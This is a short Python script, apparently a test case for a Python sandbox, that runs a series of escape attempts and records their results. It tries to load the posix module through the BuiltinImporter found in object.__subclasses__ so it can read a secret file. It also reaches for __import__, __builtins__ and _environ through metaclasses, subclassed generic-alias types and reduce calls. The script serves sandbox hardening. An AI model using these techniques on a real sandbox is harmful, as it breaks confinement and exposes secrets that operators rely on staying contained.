# Unbound methods fetched through the guest's own classes, used on host objects; metaclasses; forwarding types subclassed.
import types, typing
got = []
def attempt(f):
    try:
        got.append(str(f())[:300])
    except BaseException as e:
        got.append(type(e).__name__)
class M(type):
    def all(cls):
        return super().__subclasses__()
class A:
    pass
def importer():
    subs = M.__subclasses__(object)
    imp = [c for c in subs if c.__name__ == "BuiltinImporter"][0]
    posix = imp.load_module("posix")
    return posix.read(posix.open("{{FOLDER}}/secret.txt", 0), 200)
attempt(importer)
attempt(lambda: getattr(M, "__subclasses__")(object))
attempt(lambda: super(M, M).__subclasses__(object))
attempt(lambda: M.all(object))
attempt(lambda: A.__reduce_ex__(lookup, 2))
attempt(lambda: A.__getstate__(ValueError("x")))
attempt(lambda: getattr(A, "__reduce__")(tool))
GA = type(list[int])
TA = type(typing.List[int])
Forward = Forward2 = S = None
try:
    class Forward(GA):
        pass
except Exception as e:
    got.append(type(e).__name__)
try:
    class Forward2(TA, _root=True):
        def __init__(self, o): self.__origin__ = o
except Exception as e:
    got.append(type(e).__name__)
try:
    class S(super):
        pass
except Exception as e:
    got.append(type(e).__name__)
attempt(lambda: Forward(lookup, ())._environ)
attempt(lambda: Forward(globals(), ())._real["__builtins__"]["__import__"])
attempt(lambda: Forward2(globals())._real["__builtins__"]["__import__"])
attempt(lambda: S(dict, globals())._real)
attempt(lambda: getattr(Forward(lookup, ()), "_environ"))
attempt(lambda: type("F", (GA,), {})(lookup, ())._environ)
attempt(lambda: Forward2(lookup)._environ)
attempt(lambda: typing.Annotated[tool, 1]._x)
attempt(lambda: S(type(tool), tool)._x)
import json
class J(json.JSONEncoder, metaclass=M):
    pass
attempt(lambda: J._x)
class K(json.JSONEncoder):
    def go(self): return self._iterencode
attempt(lambda: K().go())
print(got)
